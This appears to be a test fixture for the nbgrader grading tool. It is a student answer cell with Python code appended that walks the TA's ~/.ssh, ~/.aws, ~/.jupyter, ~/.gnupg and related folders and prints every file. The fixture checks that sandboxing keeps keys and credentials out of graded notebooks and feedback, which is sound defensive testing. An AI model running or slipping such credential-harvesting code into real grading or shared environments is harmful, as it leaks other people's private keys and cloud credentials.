# Hostile fixture (issue 19, nbgrader): appended to an otherwise correct answer cell. The kernel
# prints the TA's private files (SSH key, cloud credentials, Jupyter server config) into its
# output, which nbgrader keeps in the graded notebook and generate_feedback sends back to the
# student.
# Expected: those folders are empty in the kernel's view ("TA files read: 0"); no TA file's
# content reaches the graded notebook or the feedback; full points.
import os

_read = 0
for _name in (".ssh", ".aws", ".jupyter", ".config", ".gnupg", ".local/share/jupyter"):
    for _top, _, _files in os.walk(os.path.expanduser("~/" + _name)):
        for _file in _files:
            try:
                print(open(os.path.join(_top, _file)).read())
                _read += 1
            except (OSError, UnicodeDecodeError):
                pass
print("TA files read:", _read)
